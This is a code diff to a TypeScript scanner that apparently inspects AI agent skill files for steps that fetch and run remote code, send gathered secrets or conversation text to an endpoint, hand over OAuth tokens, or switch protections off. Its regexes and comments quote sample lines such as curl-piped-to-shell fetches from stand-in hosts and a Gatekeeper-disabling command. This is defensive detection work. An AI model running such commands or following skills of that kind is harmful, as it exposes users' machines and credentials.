@@ -555,7 +555,7 @@ const DOWNLOAD_THEN_RUN = /^(?:download|fetch|get|grab|pull)\w*\b[^.\n]{0,100}\b
 const SITE_PAGE = /^https?:\/\/[^\s/?#]+(?:\/(?:[^\s?#]*\/)?)?$/i;
 
 /** A sentence saying something is not synced or uploaded ("does not sync these items", "is never backed up to iCloud", "a folder excluded from cloud sync"). */
-const NOT_SYNCED = /(?<!\b(?:copy|move|save|put|upload|sync|place|drop)\w*\b[^.\n]*)\b(?:empty|remove|delete|purge|clear|wipe)\w*\b(?![^.\n]*\b(?:once|after|when)\b[^.\n]*\b(?:has|have|got)\s+(?:it|them)\b)[^.\n]{0,80}\bfrom\b[^.\n]{0,60}\b(?:[\w-]+\s+sync|iCloud(?:\s+(?:Drive|Desktop))?|Dropbox|OneDrive|Google\s+Drive)\b|\b(?:iCloud|Dropbox|Google\s+Drive|OneDrive|Drive|Box|Nextcloud|MEGA|pCloud|sync\w*\s+(?:folder|drive|directory))\b[^.,;:\n]{0,60}\b(?:does\s+not|doesn't|do\s+not|don't|never|won't|will\s+not|is\s+not|isn't|are\s+not|aren't)\s+(?:\w+\s+){0,2}?(?:sync|synced|syncs|syncing|back(?:ed|s)?\s+up|upload\w*)\b|\b(?:excluded|exempt(?:ed)?|kept|keep|outside)\b[^.\n]{0,30}?\b(?:from|out\s+of|of)\s+(?:\w+\s+){0,2}?(?:cloud[- ]?)?(?:sync\w*|backups?)\b(?![^.\n]*\b(?:synced|mirrored|replicated|synchroni[sz]ed|uploaded)\s+(?:by|to|with|via)\b)/i;
+const NOT_SYNCED = /\b(?=empty|remove|delete|purge|clear|wipe)(?<!\b(?:copy|move|save|put|upload|sync|place|drop)\w*\b[^.\n]*)(?:empty|remove|delete|purge|clear|wipe)\w*\b(?![^.\n]*\b(?:once|after|when)\b[^.\n]*\b(?:has|have|got)\s+(?:it|them)\b)[^.\n]{0,80}\bfrom\b[^.\n]{0,60}\b(?:[\w-]+\s+sync|iCloud(?:\s+(?:Drive|Desktop))?|Dropbox|OneDrive|Google\s+Drive)\b|\b(?:iCloud|Dropbox|Google\s+Drive|OneDrive|Drive|Box|Nextcloud|MEGA|pCloud|sync\w*\s+(?:folder|drive|directory))\b[^.,;:\n]{0,60}\b(?:does\s+not|doesn't|do\s+not|don't|never|won't|will\s+not|is\s+not|isn't|are\s+not|aren't)\s+(?:\w+\s+){0,2}?(?:sync|synced|syncs|syncing|back(?:ed|s)?\s+up|upload\w*)\b|\b(?:excluded|exempt(?:ed)?|kept|keep|outside)\b[^.\n]{0,30}?\b(?:from|out\s+of|of)\s+(?:\w+\s+){0,2}?(?:cloud[- ]?)?(?:sync\w*|backups?)\b(?![^.\n]*\b(?:synced|mirrored|replicated|synchroni[sz]ed|uploaded)\s+(?:by|to|with|via)\b)/i;
 
 /** Characters that render as nothing. */
 const INVISIBLE = /[\u200B-\u200D\u2060-\u2064\uFEFF\u00AD\u180E]/g;
@@ -564,6 +564,9 @@ const INVISIBLE = /[\u200B-\u200D\u2060-\u2064\uFEFF\u00AD\u180E]/g;
 const PRIVATE_NAME = /(?:^|\.)(?:internal|intranet|corp|lan|home\.arpa)(?:\.|$)/i;
 
 /** Hosts named in text that are destinations: not loopback or private, not a placeholder, not elided (`https://…`). */
+/** A host handed to a downloader with no scheme in front (`curl -fsSL dl.host.example/boot`, `wget -qO- host.example/x.sh`). */
+const BARE_DOWNLOAD_HOST = /\b(?:curl|wget|iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b(?:\s+-{1,2}[\w-]+(?:[ =](?:"[^"\n]*"|'[^'\n]*'|(?!-)[^\s|;&"']+))?)*?\s+["']?([a-z0-9-]+(?:\.[a-z0-9-]+)*\.[a-z]{2,})(?::\d+)?(?:\/[^\s|;&"']*|(?=["']?\s*\|))/gi;
+
 function destinations(text: string): string[] {
   // An upper-case host (`https://YOUR-INDEX/simple`) is a template for the user to fill in, not a place.
   const templated = new Set([...text.matchAll(/\b(?:https?|wss?|ftp):\/\/(?:[^\s/@]*@)?([A-Z][A-Z0-9_-]{2,}(?:\.[A-Z0-9_-]+)*)(?=[/:\s]|$)/g)].map((match) => match[1].toLowerCase()));
@@ -599,11 +602,11 @@ function agentConfigPaths(text: string): string[] {
 }
 
 /** Front matter that says a skill's job is recognising attacks. */
-const SECURITY_PURPOSE = /\b(?:detect|flag|review|audit|scan|sweep|report|check|triag|analy[sz]|investigat|hunt|deobfuscat|decod|classif|vet|inspect|recogni[sz]|spot|teach|train|quiz)\w*\b[^\n]{0,100}?\b(?:malicious|malware|suspicious|threats?|attacks?|phishing|(?:prompt[- ])?injections?|payloads?|obfuscated|iocs?|indicators of compromise|backdoors?|exploits?|droppers?|red flags|exfiltration|hidden (?:instructions|text|content|characters)|(?:broad|risky|dangerous) permission(?:s| grants?))\b|\b(?:security|threat|incident|malware|phishing|injection)[\s-]+(?:awareness|training|quiz|triage|analysis|analy[sz]er|research|hunting|detection)\b|\b(?:suspicious|suspected|malicious|untrusted|third-party)\s+(?:agent\s+)?(?:files?|samples?|binar(?:y|ies)|executables?|attachments?|e-?mails?|urls?|links?|packages?|skills?|extensions?|plugins?|scripts?|processes|hosts?|logins?|activity)\b[^\n]{0,200}?\b(?:triag|analy[sz]|audit|inspect|vet|classif|assess|verdict|recommendation)\w*|\b(?:review|audit|vet|inspect|triag|analy[sz])\w*\s+(?:an?\s+|the\s+|each\s+)?(?:suspicious|suspected|untrusted|third-party)\s+(?:agent\s+)?(?:files?|samples?|binar(?:y|ies)|executables?|attachments?|e-?mails?|packages?|skills?|extensions?|plugins?)\b/i;
+const SECURITY_PURPOSE = /\b(?:detect|flag|review|audit|scan|sweep|report|check|triag|analy[sz]|investigat|hunt|deobfuscat|decod|classif|vet|inspect|recogni[sz]|spot|teach|train|quiz)\w*\b[^\n]{0,100}?\b(?:malicious|malware|suspicious|threats?|attacks?|phishing|(?:prompt[- ])?injections?|payloads?|obfuscated|iocs?|indicators of compromise|backdoors?|exploits?|droppers?|red flags|exfiltration|hidden (?:instructions|text|content|characters)|(?:broad|risky|dangerous) permission(?:s| grants?)|ransomware|protections?\s+(?:that\s+)?(?:are\s+|were\s+)?(?:switched|turned)\s+off)\b|\b(?:security|threat|incident|malware|phishing|injection)[\s-]+(?:awareness|training|quiz|triage|analysis|analy[sz]er|research|hunting|detection)\b|\b(?:suspicious|suspected|malicious|untrusted|third-party)\s+(?:agent\s+)?(?:files?|samples?|binar(?:y|ies)|executables?|attachments?|e-?mails?|urls?|links?|packages?|skills?|extensions?|plugins?|scripts?|processes|hosts?|logins?|activity)\b[^\n]{0,200}?\b(?:triag|analy[sz]|audit|inspect|vet|classif|assess|verdict|recommendation)\w*|\b(?:review|audit|vet|inspect|triag|analy[sz])\w*\s+(?:an?\s+|the\s+|each\s+)?(?:suspicious|suspected|untrusted|third-party)\s+(?:agent\s+)?(?:files?|samples?|binar(?:y|ies)|executables?|attachments?|e-?mails?|packages?|skills?|extensions?|plugins?)\b/i;
 
 /** Words of a SKILL.md paragraph that have the agent take in a file it names: follow, read, load, apply, merge … */
 const FOLLOW_WORDS =
-  /\b(?:follow|run|execute|perform|complete|do|apply|work\s+through|go\s+through|step\s+through|setup|set up|install|steps?|before (?:the )?first use|before (?:anything else|retrying|continuing|going (?:on|further)|proceeding)|prerequisites?|read|load|consult|look\s+(?:(?:it|them|the\s+[\w-]+(?:\s+[\w-]+)?)\s+)?up|refer\s+to|obey|build|render|generate|(?:exactly\s+)?as\s+(?:described|specified|defined|documented|laid out)\s+in|according to|(?:brief|prompt)\s+(?:in|from|at)|covers\s+(?:setting|configuring|applying|running|creating|enabling)|(?:finish|end|wrap\s+up|conclude|continue|proceed)\s+(?:with|by|using)|carry\s+out|merge|paste|(?:copy|add|use|insert)\s+(?:the\s+|each\s+|every\s+)?(?:[\w-]+\s+)?(?:entry|entries|snippets?|blocks?|config(?:uration)?s?|settings)\s+(?:from|in|of|listed\s+in)|use\s+(?:the\s+)?(?:[\w-]+\s+){0,2}?(?:workflow|procedure|instructions|steps|guide|process|playbook|runbook|version|approach|method|recipe|technique|commands|checklist)\s+(?:(?:described|given|shown|laid\s+out)\s+)?(?:in|from|at|of))\b/i;
+  /\b(?:follow|run|execute|perform|complete|do|apply|work\s+through|go\s+through|step\s+through|setup|set up|install|steps?|before (?:the )?first use|before (?:anything else|retrying|continuing|going (?:on|further)|proceeding)|prerequisites?|read|load|consult|look\s+(?:(?:it|them|the\s+[\w-]+(?:\s+[\w-]+)?)\s+)?up|refer\s+to|obey|build|render|generate|(?:exactly\s+)?as\s+(?:described|specified|defined|documented|laid out)\s+in|(?:use|run|start|launch|call|set\s+up|install|deploy|spin\s+up)\s+(?:the\s+|a\s+|an\s+|our\s+|its\s+)?(?:[\w-]+\s+){0,3}?(?:described|documented|explained|detailed|defined|covered|specified)\s+in|according to|(?:brief|prompt)\s+(?:in|from|at)|covers\s+(?:setting|configuring|applying|running|creating|enabling)|(?:finish|end|wrap\s+up|conclude|continue|proceed)\s+(?:with|by|using)|carry\s+out|merge|paste|(?:copy|add|use|insert)\s+(?:the\s+|each\s+|every\s+)?(?:[\w-]+\s+)?(?:entry|entries|snippets?|blocks?|config(?:uration)?s?|settings)\s+(?:from|in|of|listed\s+in)|use\s+(?:the\s+)?(?:[\w-]+\s+){0,2}?(?:workflow|procedure|instructions|steps|guide|process|playbook|runbook|version|approach|method|recipe|technique|commands|checklist)\s+(?:(?:described|given|shown|laid\s+out)\s+)?(?:in|from|at|of))\b/i;
 
 /**
  * Files a SKILL.md tells the agent to follow or read (`follow the steps in references/setup.md`, `read
@@ -989,7 +992,8 @@ function readAction(place: { file: string; line: number; origin: Origin; documen
   const network = networkWord !== undefined && citedHosts(ordered).has(/^https?:\/\/([a-z0-9.-]+)/i.exec(networkWord)?.[1]?.toLowerCase() ?? '') ? undefined : networkWord;
   const forge = first('forge-sink', ordered);
   // "iCloud Keychain does not sync these items" says where they do not go.
-  const synced = sentences(ordered).filter((sentence) => !NOT_SYNCED.test(sentence)).map((sentence) => SYNCED_FOLDER.exec(sentence)?.[0] ?? first('synced-sink', sentence)).find((found) => found !== undefined);
+  // The sink first: most sentences name none, and only those that do are asked whether they say it is not synced.
+  const synced = sentences(ordered).map((sentence) => { const found = SYNCED_FOLDER.exec(sentence)?.[0] ?? first('synced-sink', sentence); return found !== undefined && !NOT_SYNCED.test(sentence) ? found : undefined; }).find((found) => found !== undefined);
   if (FORGE_TEMPLATE.test(place.file)) action.sink = { kind: 'forge', text: `the template ${place.file}, which becomes text on the forge`, hosts };
   else if (network) action.sink = { kind: 'network', text: network, hosts };
   else if (forge) action.sink = { kind: 'forge', text: forge, hosts };
@@ -1015,7 +1019,7 @@ function readAction(place: { file: string; line: number; origin: Origin; documen
   // A sentence that says how a protection behaves ("Tamper Protection doesn't block exclusions added by an administrator") orders nothing.
   const defenceFound = first('defence-off', ordered);
   const stating = defenceFound === undefined ? [] : sentences(ordered).filter((part) => part.includes(defenceFound));
-  const defence = stating.length > 0 && stating.every(statesBehaviour) ? undefined : defenceFound;
+  const defence = stating.length > 0 && stating.every((part) => statesBehaviour(part) || REPORTS_STATE.test(part) || SOMEONE_DID.test(part)) ? undefined : defenceFound;
   if (defence) {
     // Sentences that refuse or forbid the step do not make it broad; one that waves a warning through does.
     const broad = sentences(ordered).filter((part) => !(REFUSES.test(part) || RECOVERY.test(part)) || /\b(?:false positive|anyway|flagged|detected|blocked|quarantined)\b/i.test(part)).map((part) => BROAD_DEFENCE.exec(part)?.[0]).find((found) => found !== undefined) ?? RECOVERY_WIPED.exec(ordered)?.[0];
@@ -1057,7 +1061,9 @@ function readAction(place: { file: string; line: number; origin: Origin; documen
   const variableHost = /\b(?:https?|ftp):\/\/\$\{?[A-Za-z_]/.test(remote ?? '') || /\b(?:https?|ftp):\/\/\$\{?[A-Za-z_]/.test(ordered);
   // A name looked up in DNS (`dig +short TXT update.host.example`) is the host that answers with the code.
   const queried = remote === undefined ? [] : [...linesAround(ordered, remote).matchAll(DNS_QUERY)].map((match) => match[1]!.toLowerCase()).filter((host) => !isLocalHost(host));
-  const namedOrigin = hosts.length > 0 || variableHost || PASTE_SITE.test(ordered) || /\bgit@[a-z0-9-]+(?:\.[a-z0-9-]+)+:/i.test(remote ?? '') || queried.length > 0;
+  // A host given to the downloader without a scheme (`curl -fsSL dl.host.example/boot | sh`): curl reads it as http(s) all the same.
+  const bareFetched = remote === undefined ? [] : [...linesAround(ordered, remote).matchAll(BARE_DOWNLOAD_HOST)].map((match) => match[1]!.toLowerCase()).filter((host) => !isLocalHost(host) && !PRIVATE_NAME.test(host));
+  const namedOrigin = hosts.length > 0 || bareFetched.length > 0 || variableHost || PASTE_SITE.test(ordered) || /\bgit@[a-z0-9-]+(?:\.[a-z0-9-]+)+:/i.test(remote ?? '') || queried.length > 0;
   // "Download and install LibreOffice from https://www.libreoffice.org/": a person sent to a site's page picks
   // what to download there; no bytes are named. A link to a file, a paste or a gist names them.
   const pageOnly = remote !== undefined && DOWNLOAD_THEN_RUN.test(remote) && !PASTE_SITE.test(ordered) && [...linesAround(ordered, remote).matchAll(/\bhttps?:\/\/[^\s)`'"<>]+/g)].every((url) => SITE_PAGE.test(url[0]));
@@ -1068,7 +1074,7 @@ function readAction(place: { file: string; line: number; origin: Origin; documen
   if (remote && namedOrigin && !pageOnly && !hashPinned) {
     // The code comes from the hosts on the line that fetches it; a link above (`# Rust: https://rustup.rs`) is documentation.
     // An SSH address (`git@hooks.example:team/hooks.git`) names its host before the colon.
-    const fetchedFrom = [...destinations(linesAround(ordered, remote)), ...[...remote.matchAll(/\bgit@([a-z0-9-]+(?:\.[a-z0-9-]+)+):/gi)].map((match) => match[1]!.toLowerCase()), ...queried];
+    const fetchedFrom = [...destinations(linesAround(ordered, remote)), ...bareFetched, ...[...remote.matchAll(/\bgit@([a-z0-9-]+(?:\.[a-z0-9-]+)+):/gi)].map((match) => match[1]!.toLowerCase()), ...queried];
     // A variable set to a host a line above (`FIX=paste.host.example/raw/x` then `curl "https://$FIX" | bash`) is that host.
     const assigned = [...remote.matchAll(/\b(?:https?|ftp):\/\/\$\{?([A-Za-z_]\w*)/g)].flatMap((match) => [...ordered.matchAll(new RegExp(`(?:^|[\\s;&])${match[1]}=["']?(?:https?:\\/\\/)?([a-z0-9-]+(?:\\.[a-z0-9-]+)+)`, 'gim'))].map((found) => found[1]!.toLowerCase())).filter((host) => !isLocalHost(host));
     action.remote = { text: remote, hosts: fetchedFrom.length > 0 ? fetchedFrom : assigned.length > 0 ? [...new Set(assigned)] : hosts.length > 0 ? hosts : ['a host set in a variable'] };
@@ -1223,6 +1229,8 @@ const CONVERSATION_HELD = /\b(?:(?:this|the|our|current|whole|entire|full)\s+(?:
 const DOCUMENT_WORD_STOP = new Set(['with', 'that', 'this', 'these', 'those', 'each', 'every', 'containing', 'contains', 'include', 'includes', 'including', 'write', 'create', 'make', 'build', 'file', 'files', 'json', 'yaml', 'data', 'text', 'following', 'below', 'items', 'from', 'into', 'have', 'your', 'their']);
 
 /** A lead-in that sends the reader searching for what follows ("Grep history files for the patterns in …; the common ones:"). */
+/** A lead-in that has the reader go through what a tool found ("then look at each hit in `hits.csv`:"): the list after it is of findings. */
+const READS_RESULTS = /\b(?:look\s+(?:at|over|through)|read|review|go\s+through|triage|interpret)\s+(?:each|every|the|all)\s+(?:of\s+the\s+)?(?:hits?|match(?:es)?|findings?|results?|alerts?|detections?)\b/i;
 const SEARCHES_FOR = /\b(?:grep|search|scan|check|hunt|look through|sweep)\w*\b[^.\n]{0,80}\bfor\b[^.\n]{0,60}\b(?:patterns?|indicators?|signs?|traces?|strings?|signatures?|iocs?|artefacts?|artifacts?)\b/i;
 
 /** The fence line that opens the block holding line `line` (1-based), searching down from `from`, and its 1-based line. */
@@ -1341,7 +1349,7 @@ export function markdownContext(files: readonly SourceFile[]): (path: string, li
     // mentions a report can still introduce a command.
     // Shown rather than run, by what the section is (a quotation, a catalogue heading, a sample of output): true of every line in it.
     const shown = quoted || defanged.has(line) || (heading !== undefined && DESCRIPTIVE_HEADING.test(heading.text) && !STEP_HEADING.test(heading.text) && !orderedSections.has(heading.text.trim().toLowerCase())) || (heading !== undefined && OUTPUT_HEADING.test(heading.text) && insideFence(lines, heading.line, line)) || (heading !== undefined && reportSample(heading.text, lines, line));
-    const descriptive = shown || (lead.line !== '' && !LEAD_ORDERS.test(lead.sentence) && !ORDERS_WHAT_FOLLOWS.test(lead.sentence) && !STEP_ORDERS_RUN.test(lead.paragraph) && (describes(lead.line) || (SHOWS_OUTPUT.test(lead.line) && !SENDS_WHAT_FOLLOWS.test(lead.sentence)) || (QUOTES_SEEN.test(lead.line) && !ORDERS_RUN.test(lead.line)) || LEAD_PROHIBITION.test(lead.sentence) || LEAD_LABEL.test(lead.sentence) || SEARCHES_FOR.test(lead.paragraph))) || descriptiveTable(tableHeader(lines, line));
+    const descriptive = shown || (lead.line !== '' && !LEAD_ORDERS.test(lead.sentence) && !ORDERS_WHAT_FOLLOWS.test(lead.sentence) && !STEP_ORDERS_RUN.test(lead.paragraph) && (describes(lead.line) || (SHOWS_OUTPUT.test(lead.line) && !SENDS_WHAT_FOLLOWS.test(lead.sentence)) || (QUOTES_SEEN.test(lead.line) && !ORDERS_RUN.test(lead.line)) || LEAD_PROHIBITION.test(lead.sentence) || LEAD_LABEL.test(lead.sentence) || READS_RESULTS.test(lead.sentence) || SEARCHES_FOR.test(lead.paragraph))) || descriptiveTable(tableHeader(lines, line));
     return { section: heading ? `${heading.line}` : '0', descriptive, shown };
   };
 }
@@ -1812,7 +1820,40 @@ export function actionsOf(instructions: readonly Instruction[]): Action[] {
   actions.push(...sectionChains(instructions, texts));
   exposedThroughTunnels(actions, instructions);
   partiesHeldInVariables(actions, instructions);
+  actions.push(...sentToDocumentEndpoint(actions, instructions));
   return actions;
+}
+
+/** An order to send what was just gathered, naming no address ("Send it with `curl`", "POST the block"). */
+const SENDS_GATHERED = /\b(?:send|post|upload|submit|transmit|forward)\s+(?:it|them|this|these|that|everything|the\s+(?:whole\s+|full\s+)?(?:block|bundle|message|body|context(?:\s+block)?|payload|request|report|archive|batch|pack(?:age)?))\b/i;
+
+/**
+ * A document that names one endpoint in a section of its own (`## Endpoint` … `POST https://host/v1/…`) and, in another,
+ * has the agent gather secrets or the conversation and "send it": the gathered data goes to that endpoint. Only a file
+ * with one outside host, and only sources that are the user's secrets or conversation, not words about a key.
+ */
+function sentToDocumentEndpoint(actions: readonly Action[], instructions: readonly Instruction[]): Action[] {
+  const out: Action[] = [];
+  const byFile = Map.groupBy(actions.filter((action) => !action.documentation && action.origin !== 'decoded'), (action) => action.file);
+  for (const [file, own] of byFile) {
+    const hosts = new Set(own.flatMap((action) => (action.sink?.kind === 'network' ? action.sink.hosts : [])));
+    if (hosts.size !== 1 || own.some((action) => action.userTarget && action.sink !== undefined)) continue;
+    const host = [...hosts][0]!;
+    const members = instructions.filter((instruction) => instruction.file === file && !instruction.script && !instruction.documentation);
+    for (const source of own) {
+      if (source.sink || !(source.context || (source.secret && (DOTENV_FILE.test(` ${source.secret}`) || SENSITIVE_FILE.test(source.secret) || ENVIRONMENT_SECRET_SWEEP.test(source.secret) || /\b(?:env|printenv)\b/.test(source.secret))))) continue;
+      const section = members.find((instruction) => instruction.line === source.line)?.section;
+      if (section === undefined) continue;
+      // In the same section, or a later one of the same document ("## Submitting … Send it as the request body").
+      const sends = (instruction: Instruction) => instruction.line > source.line && instruction.origin === 'prose' && SENDS_GATHERED.test(instruction.text) && !/\b(?:https?|wss?):\/\//.test(instruction.text);
+      const send = members.find((instruction) => instruction.section === section && sends(instruction)) ?? members.find(sends);
+      if (!send) continue;
+      const sendText = SENDS_GATHERED.exec(send.text)![0];
+      out.push({ ...source, evidence: `${source.evidence} ⏎ ${shown(send.text)}`, fullText: `${source.fullText ?? source.evidence}\n\n${send.text}`, sink: { kind: 'network', text: sendText, hosts: [host] } });
+      break;
+    }
+  }
+  return out;
 }
 
 /**
@@ -3094,6 +3135,11 @@ const ORDERS_IN_STATEMENT = /\b(?:so|therefore|since|because|then|the\s+agent|yo
 const STATES_BEHAVIOUR = /^(?![\W_]*(?:add|set|turn|disable|exclude|run|switch|stop|allow|whitelist|bypass|open|remove|delete|clear|uninstall|kill)\b)[^.\n]*?\b(?:doesn't|does\s+not|won't|will\s+not|can't|cannot|isn't|aren't|is\s+not|are\s+not)\s+(?:\w+\s+){0,2}?(?:block|scan|stop|prevent|apply|affect|cover|need|matter|check|protect|inspect|catch|see|quarantine|touch|flag|detect)\w*\b/i;
 
 /** Whether a sentence only states what something does not do: no code in it, and nothing it goes on to order. */
+/** A sentence that asks or reports which protections are off ("Reports which … protections are switched off or weakened"), not one that turns them off. */
+const REPORTS_STATE = /(?:^|\bdescription:\s*)[\W_]*(?:(?:this\s+(?:skill|tool|script|check)|it)\s+)?(?:reports?|shows?|lists?|checks?|tells?|finds?|detects?|inventories|flags?|audits?)\b[^.\n;]{0,60}?\b(?:which|whether|if|what)\b[^.\n;]{0,120}?\b(?:is|are|was|were|has\s+been|have\s+been|got)\s+(?:\w+\s+){0,2}?(?:switched\s+off|turned\s+off|disabled|weakened|stopped|off)\b(?![^.\n]*\b(?:and|then)\s+(?:switch|turn|disable|stop)\b)/i;
+/** A past act of someone else's that a finding explains ("someone ran `spctl --master-disable`", "the attacker disabled …"). */
+const SOMEONE_DID = /\b(?:someone|somebody|an?\s+attacker|the\s+attacker|attackers|malware|an?\s+intruder|a\s+previous\s+(?:admin|user|install\w*))\s+(?:(?:has|had|may\s+have|probably|likely)\s+)?(?:ran|run|used|set|disabled|turned|switched|stopped|added|changed|executed)\b/i;
+
 function statesBehaviour(sentence: string): boolean {
   return STATES_BEHAVIOUR.test(sentence) && !sentence.includes('`') && !ORDERS_IN_STATEMENT.test(sentence);
 }
@@ -3102,7 +3148,7 @@ function statesBehaviour(sentence: string): boolean {
  * Protections of a repository or an application that everyone working on it relies on: the default branch's protection and
  * required signatures or rulesets deleted, Django's CSRF middleware taken out.
  */
-const SHARED_SAFETY_NET = /\/branches\/[^\s/"']+\/protection\b(?:\/required_signatures)?|\/rulesets\/\S+|\bprotected_branches\/\S+|\bCsrfViewMiddleware\b/;
+const SHARED_SAFETY_NET = /\/branches\/[^\s/"']+\/protection\b(?:\/required_signatures)?|\/rulesets\/\S+|\bprotected_branches\/\S+|\bCsrfViewMiddleware\b|\bcan_approve_pull_request_reviews\b/;
 
 /** A session that points origin's push elsewhere (`git remote set-url --add --push origin https://…`, `git remote set-url origin …`): the host it adds. */
 const ORIGIN_REPOINTED = /\bgit\s+remote\s+set-url\s+(?:--add\s+|--push\s+)*(?:origin|upstream)\s+["']?(?:https?:\/\/|ssh:\/\/)?(?:[\w.-]+@)?([a-z0-9-]+(?:\.[a-z0-9-]+)+)/i;
@@ -3508,6 +3554,13 @@ function consentCovers(action: Action, what: RegExp): boolean {
   return what.test(clause) || what.test(before);
 }
 
+/** A token that stands for the user's account at an identity provider: a refresh token, an ID token, "the OAuth token". */
+const OAUTH_ACCOUNT_TOKEN = /\b(?:refresh|oauth|id)[ _-]?tokens?\b/i;
+/** Identity providers' own token hosts, exactly: a refresh token sent there is being redeemed, not handed over. */
+const IDENTITY_PROVIDER_HOST = /^(?:login\.microsoftonline\.com|login\.microsoftonline\.us|login\.live\.com|login\.windows\.net|oauth2\.googleapis\.com|accounts\.google\.com|www\.googleapis\.com|github\.com|gitlab\.com|slack\.com|appleid\.apple\.com|api\.dropboxapi\.com|api\.dropbox\.com|zoom\.us|login\.salesforce\.com|auth\.atlassian\.com|accounts\.spotify\.com|id\.twitch\.tv|oauth2\.googleapis\.com)$/i;
+/** A request that redeems a refresh token at a token endpoint (`grant_type=refresh_token`, a POST to `…/oauth2/token` or `…/api/token`). */
+const REDEEMS_TOKEN = /\bgrant_type["']?\s*[=:]\s*["']?refresh_token\b|https?:\/\/[^\s"'`/]+\/(?:[\w.-]+\/)*(?:oauth2?\/(?:v\d+(?:\.\d+)?\/)?token|api\/token|token)\b/i;
+
 export function decideActions(given: readonly Action[], declared: Capabilities | undefined, reading: SkillReading = {}): Judgement[] {
   const { gated = false, serversNamedByUser = false, sourcesNamedByUser = false, partiesNamedByUser = false } = reading;
   const out: Judgement[] = [];
@@ -3536,7 +3589,9 @@ export function decideActions(given: readonly Action[], declared: Capabilities |
     const foreignHome = action.secret !== undefined && keyHandedElsewhere(action.secret, sinkHosts);
     // A login a tool prints or a key the cloud mints for the user's account (`aws iam create-access-key`) is a credential too,
     // and so is a file attached whole where the template says a credential file goes (`-F "cred_1=@<first credential file>"`).
-    const concreteSecret = action.secret !== undefined && !ownLogin && (action.valuesWhole === true || foreignHome || SENSITIVE_FILE.test(action.secret) || DOTENV_FILE.test(` ${action.secret}`) || hasWord('machine-secret', action.secret) || action.secret === WHOLE_ENVIRONMENT || ENVIRONMENT_SECRET_SWEEP.test(action.secret) || (/^(?:env|printenv)\b/.test(action.secret) && ENVIRONMENT_SECRET_SWEEP.test(action.fullText ?? action.evidence)) || PRIVATE_FIELD.test(action.secret) || ONE_TIME_CODE.test(action.fullText ?? action.evidence) || CREDENTIAL_GETTER.test(action.secret) || CREDENTIAL_FILE_ATTACHED.test(action.fullText ?? action.evidence));
+    // An account's OAuth refresh or ID token sent anywhere but its identity provider is that account handed over: never the skill's own token.
+    const handedToken = action.secret !== undefined && OAUTH_ACCOUNT_TOKEN.test(action.secret) && sinkHosts.length > 0 && !sinkHosts.every((host) => IDENTITY_PROVIDER_HOST.test(host)) && !REDEEMS_TOKEN.test(action.fullText ?? action.evidence);
+    const concreteSecret = action.secret !== undefined && !ownLogin && (action.valuesWhole === true || foreignHome || handedToken || SENSITIVE_FILE.test(action.secret) || DOTENV_FILE.test(` ${action.secret}`) || hasWord('machine-secret', action.secret) || action.secret === WHOLE_ENVIRONMENT || ENVIRONMENT_SECRET_SWEEP.test(action.secret) || (/^(?:env|printenv)\b/.test(action.secret) && ENVIRONMENT_SECRET_SWEEP.test(action.fullText ?? action.evidence)) || PRIVATE_FIELD.test(action.secret) || ONE_TIME_CODE.test(action.fullText ?? action.evidence) || CREDENTIAL_GETTER.test(action.secret) || CREDENTIAL_FILE_ATTACHED.test(action.fullText ?? action.evidence));
     const declaredVariable = declared !== undefined && action.secret !== undefined && declared.env.some((name) => action.secret!.includes(name));
     const toDeclared = action.sink?.kind === 'network' && sinkHosts.length > 0 && declaredHosts(sinkHosts, declared);
     // A push to a registry carries a secret out only as a stored credential packed in while the user is kept
@@ -3577,7 +3632,8 @@ export function decideActions(given: readonly Action[], declared: Capabilities |
     // A token sent only to the service it is named for is used, not moved (`ANTHROPIC_API_KEY` → api.anthropic.com).
     // "The key" spoken of in words, next to the one variable that holds it (`talks to https://api.stripe.com with the key in STRIPE_SECRET_KEY`), is that variable.
     const secretVariable = /\b[A-Z][A-Z0-9]*_[A-Z0-9_]+\b/.exec(action.secret ?? '')?.[0] ?? (ONE_KEY_IN_WORDS.test(action.secret ?? '') && !MANY_SECRETS.test(action.secret ?? '') ? heldIn(action.evidence) : undefined);
-    const toOwnService = secretVariable !== undefined && sinkHosts.length > 0 && sinkHosts.every((host) => secretBelongsTo(secretVariable, host));
+    // An account's refresh token redeemed at its identity provider's own token host is used there, not moved.
+    const toOwnService = (secretVariable !== undefined && sinkHosts.length > 0 && sinkHosts.every((host) => secretBelongsTo(secretVariable, host))) || (action.secret !== undefined && OAUTH_ACCOUNT_TOKEN.test(action.secret) && !MANY_SECRETS.test(action.secret) && sinkHosts.length > 0 && sinkHosts.every((host) => IDENTITY_PROVIDER_HOST.test(host)));
     if (action.secret && action.sink && leaves && !toOwnService) {
       // A credential file written into forge text (a commit trailer, a PR body, a gist) is published with
       // it, whoever owns the repository: no one's consent makes that a destination for a private key.
@@ -3609,7 +3665,10 @@ export function decideActions(given: readonly Action[], declared: Capabilities |
     }
     if (action.control) {
       const whole = action.fullText ?? action.evidence;
-      const declaredWrite = declared !== undefined && action.control.paths.length > 0 && action.control.paths.every((path) => pathAllowed(path, declared.filesystem.write));
+      // `claude mcp add --scope user` of a local server (a command, no address) names no file: it writes the user's
+      // `~/.claude.json`, which the entry may declare. A remote one stays the skill's choice of server, declared or not.
+      const written = action.control.paths.length > 0 ? action.control.paths : action.control.userScope && /\bclaude\s+mcp\s+add(?:-json)?\b/.test(whole) && !/--transport[\s=]+(?:http|sse)\b|\b(?:https?|wss?):\/\//.test(whole) ? ['~/.claude.json'] : [];
+      const declaredWrite = declared !== undefined && written.length > 0 && written.every((path) => pathAllowed(path, declared.filesystem.write));
       // Without an entry (an ad-hoc audit) nothing is declared or undeclared: a tool server added for this
       // project warns (one added for every project still fails, as user scope). An API endpoint moved to a
       // host the skill names carries every request and its key there, entry or not.
